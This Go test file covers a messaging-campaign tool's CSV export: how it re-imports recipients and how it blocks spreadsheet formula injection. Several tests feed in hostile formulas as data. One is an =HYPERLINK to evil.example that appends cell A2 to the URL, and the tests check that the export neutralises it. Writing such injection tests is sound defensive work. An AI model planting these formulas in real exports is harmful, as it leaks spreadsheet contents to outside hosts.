package producer_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/mmlite/mmlite/internal/results"
	"github.com/mmlite/mmlite/internal/store"
	"github.com/mmlite/mmlite/pkg/campaign"
	"github.com/mmlite/mmlite/pkg/mmapi"
	"github.com/mmlite/mmlite/pkg/task"
	"github.com/mmlite/mmlite/producer"
	"github.com/stretchr/testify/require"
)

// A CSV export of recipients with and without their own components (one
// with its own body, one with the campaign's) is enqueued again as it is:
// an empty cell of an export's component column is "none of its own", not
// a blank parameter (found in review: the second was rejected, "body.1:
// empty", and the retry campaign silently missed it).
func TestExport_MixedRecipientsEnqueueAgain(t *testing.T) {
	t.Parallel()
	b := setup(t)
	shared, err := mmapi.NewComponent(map[string]any{"type": "body", "parameters": []any{map[string]any{"type": "text", "text": "friend"}}})
	require.NoError(t, err)
	c := b.campaign(t, func(c *campaign.Campaign) { c.Template.Components = []mmapi.Component{shared} })
	sum, err := b.p.Enqueue(b.ctx, c, producer.NewJSONLSource(strings.NewReader(
		`{"to": "441234567801", "components": [{"type": "body", "parameters": [{"type": "text", "text": "Ana"}]}]}`+"\n"+
			`{"to": "441234567802"}`+"\n")), producer.Options{})
	require.NoError(t, err)
	require.EqualValues(t, 2, sum.Accepted, "%+v", sum.Errors)

	// Both fail; the ledger keeps each one's own components.
	for _, to := range []string{"441234567801", "441234567802"} {
		var comps []mmapi.Component
		if to == "441234567801" {
			comps = []mmapi.Component{mustComp(t, `{"type":"body","parameters":[{"type":"text","text":"Ana"}]}`)}
		}
		_, err := b.p.Store().Ledger.Settle(b.ctx, c.ID, to, store.Outcome{Status: task.StatusFailed,
			Error: &task.Error{Code: 131026}, Components: comps}, store.FailurePolicy{}, nil)
		require.NoError(t, err)
	}

	f, err := results.ParseFilter([]string{"failed"}, nil)
	require.NoError(t, err)
	head, err := results.CSVHeader(b.ctx, b.p.Store(), c.ID, f)
	require.NoError(t, err, "the export is not refused")
	var out bytes.Buffer
	require.NoError(t, results.WriteCSV(b.ctx, &out, b.p.Store(), c.ID, f, head))
	t.Logf("export:\n%s", out.String())

	retry := &campaign.Campaign{ID: "spring-retry", Template: c.Template}
	_, err = b.p.Register(b.ctx, retry)
	require.NoError(t, err)
	sum, err = b.p.Enqueue(b.ctx, retry, producer.NewCSVSource(&out), producer.Options{})
	require.NoError(t, err)
	require.EqualValues(t, 0, sum.Rejected, "every exported recipient is enqueued again: %+v", sum.Errors)
	require.EqualValues(t, 2, sum.Accepted)
}

func mustComp(t *testing.T, js string) mmapi.Component {
	t.Helper()
	var c mmapi.Component
	require.NoError(t, c.UnmarshalJSON([]byte(js)))
	return c
}

// A CSV export keeps a spreadsheet from running a recipient's parameter or
// metadata as a formula (=, +, -, @ first: CSV injection; found in review),
// and mmlite enqueue reads every cell back as it was.
func TestExport_CellsAreNotFormulasAndComeBackAsTheyWere(t *testing.T) {
	t.Parallel()
	b := setup(t)
	c := b.campaign(t, nil)
	to := "441234567803"
	comps := []mmapi.Component{
		mustComp(t, `{"type":"header","parameters":[{"type":"text","text":"@ana"}]}`),
		mustComp(t, `{"type":"body","parameters":[{"type":"text","text":"=HYPERLINK(\"https://evil.example\",\"x\")"},{"type":"text","text":"-5"},{"type":"text","text":"'quoted"}]}`),
		mustComp(t, `{"type":"button","sub_type":"url","index":"0","parameters":[{"type":"text","text":"+1"}]}`),
	}
	meta := map[string]string{"crm": "=1+1", "note": "plain"}
	_, err := b.p.Store().Ledger.Settle(b.ctx, c.ID, to, store.Outcome{Status: task.StatusFailed,
		Error: &task.Error{Code: 131026}, Components: comps, Metadata: meta}, store.FailurePolicy{}, nil)
	require.NoError(t, err)

	out := exportNoFormula(t, b, c.ID, "failed")

	r, _, err := producer.NewCSVSource(bytes.NewReader(out.Bytes())).Next()
	require.NoError(t, err)
	require.Equal(t, to, r.To)
	require.Equal(t, meta, r.Metadata)
	require.Len(t, r.Components, len(comps))
	for i := range comps {
		want, _ := comps[i].MarshalJSON()
		got, _ := r.Components[i].MarshalJSON()
		require.JSONEq(t, string(want), string(got))
	}
}

// Only a file with all three outcome columns of an export (status,
// error_code, wamid) is read as one: a user's own file with a status
// column keeps a leading ' (found in review).
func TestExport_OnlyAnExportLosesItsQuote(t *testing.T) {
	t.Parallel()
	r, _, err := producer.NewCSVSource(strings.NewReader("to,body.1,status\n447700900001,'Tis the season,new\n")).Next()
	require.NoError(t, err)
	got, _ := r.Components[0].MarshalJSON()
	require.Contains(t, string(got), `"text":"'Tis the season"`)
}

// The wamid of an export comes from the provider's answer, not from
// mmlite: an answer whose message id is a formula (a hostile or broken
// upstream) must not run in the spreadsheet that opens the export either;
// mmlite enqueue reads the column past.
func TestExport_ProviderWAMIDIsNotAFormula(t *testing.T) {
	t.Parallel()
	b := setup(t)
	c := b.campaign(t, nil)
	evil := `=HYPERLINK("https://evil.example/?x="&A2,"open")`
	_, err := b.p.Store().Ledger.Settle(b.ctx, c.ID, "441234567804", store.Outcome{Status: task.StatusSent, WAMID: evil},
		store.FailurePolicy{}, nil)
	require.NoError(t, err)
	out := exportNoFormula(t, b, c.ID, "sent")
	r, _, err := producer.NewCSVSource(bytes.NewReader(out.Bytes())).Next()
	require.NoError(t, err, "the export is read again")
	require.Equal(t, "441234567804", r.To)
}

// exportNoFormula writes the CSV export of campaign id's recipients of
// one status, a header and one row, checks that no cell of the row starts
// as a spreadsheet formula, and returns it.
func exportNoFormula(t *testing.T, b *bundle, id, status string) *bytes.Buffer {
	t.Helper()
	f, err := results.ParseFilter([]string{status}, nil)
	require.NoError(t, err)
	head, err := results.CSVHeader(b.ctx, b.p.Store(), id, f)
	require.NoError(t, err)
	var out bytes.Buffer
	require.NoError(t, results.WriteCSV(b.ctx, &out, b.p.Store(), id, f, head))
	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 2)
	for i, cell := range recs[1] {
		require.NotRegexp(t, `^[=+\-@\t\r]`, cell, "column %s starts as a formula", recs[0][i])
	}
	return &out
}
